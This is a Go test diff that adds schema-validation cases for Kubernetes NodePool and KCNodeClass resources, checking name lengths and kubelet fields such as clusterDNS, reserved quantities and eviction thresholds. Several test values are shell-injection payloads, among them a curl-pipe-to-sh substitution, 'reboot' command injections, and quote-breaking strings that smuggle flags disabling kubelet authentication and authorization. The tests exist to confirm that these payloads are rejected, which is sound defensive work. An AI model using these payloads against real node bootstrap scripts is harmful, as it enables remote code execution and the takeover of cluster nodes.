@@ -157,6 +157,13 @@ func object(manifest string) *unstructured.Unstructured {
 }
 
 // set writes value at path; path elements are map keys (string) or list indexes (int).
+// kubelet builds a KCNodeClass whose spec.kubelet has only field, set to value.
+func kubelet(field string, value any) func() *unstructured.Unstructured {
+	return func() *unstructured.Unstructured {
+		return kcNodeClass(func(u *unstructured.Unstructured) { set(u, map[string]any{field: value}, "spec", "kubelet") })
+	}
+}
+
 func set(u *unstructured.Unstructured, value any, path ...any) {
 	var parent any = u.Object
 	for i, p := range path {
@@ -707,6 +714,42 @@ var _ = Describe("NodePool, NodeClaim and KCNodeClass schemas", func() {
 		Entry("maxPods 0", func() *unstructured.Unstructured {
 			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, map[string]any{"maxPods": int64(0)}, "spec", "kubelet") })
 		}, "spec.kubelet.maxPods in body should be greater than or equal to 1"),
+		// Names that nodes carry as label values.
+		Entry("a KCNodeClass name over 63 characters", func() *unstructured.Unstructured {
+			return kcNodeClass(func(u *unstructured.Unstructured) { u.SetName(strings.Repeat("k", 64)) })
+		}, "a KCNodeClass name is at most 63 characters"),
+		Entry("a NodePool name over 63 characters", func() *unstructured.Unstructured {
+			u := object(seed001NodePool)
+			u.SetName(strings.Repeat("p", 64))
+			return u
+		}, "a NodePool name is at most 63 characters"),
+		// Values that reach the join script: each must be of its form, whatever it holds.
+		Entry("a command substitution as cluster DNS", kubelet("clusterDNS", []any{"$(curl -s http://x/y|sh)"}),
+			"clusterDNS entries must be IP addresses"),
+		Entry("a flag after a cluster DNS address", kubelet("clusterDNS", []any{"10.96.0.10 --anonymous-auth=true"}),
+			"clusterDNS entries must be IP addresses"),
+		Entry("a host name as cluster DNS", kubelet("clusterDNS", []any{"dns.example.com"}),
+			"clusterDNS entries must be IP addresses"),
+		Entry("a quote and a flag in systemReserved", kubelet("systemReserved", map[string]any{"memory": `1Gi" --authorization-mode=AlwaysAllow "`}),
+			"systemReserved values must be quantities"),
+		Entry("a word as kubeReserved", kubelet("kubeReserved", map[string]any{"cpu": "lots"}),
+			"kubeReserved values must be quantities"),
+		Entry("a command after a kubeReserved quantity", kubelet("kubeReserved", map[string]any{"pid": "100;reboot"}),
+			"kubeReserved values must be quantities"),
+		Entry("a back-quoted command after an evictionHard percentage", kubelet("evictionHard", map[string]any{"memory.available": "5%`reboot`"}),
+			"evictionHard values must be percentages of at most 100%"),
+		Entry("an evictionHard percentage over 100", kubelet("evictionHard", map[string]any{"memory.available": "150%"}),
+			"evictionHard values must be percentages of at most 100%"),
+		Entry("a substitution as an evictionSoft value", func() *unstructured.Unstructured {
+			return kcNodeClass(func(u *unstructured.Unstructured) {
+				set(u, map[string]any{
+					"evictionSoft":            map[string]any{"memory.available": "$(reboot)"},
+					"evictionSoftGracePeriod": map[string]any{"memory.available": "1m"},
+				}, "spec", "kubelet")
+			})
+		}, "evictionSoft values must be percentages of at most 100%"),
+		Entry("a kubelet value too long to be a quantity", kubelet("systemReserved", map[string]any{"memory": strings.Repeat("9", 65)}),
+			"spec.kubelet.systemReserved.memory: Too long: may not be more than 64 bytes"),
 	)
 
 	DescribeTable("rejects invalid updates",
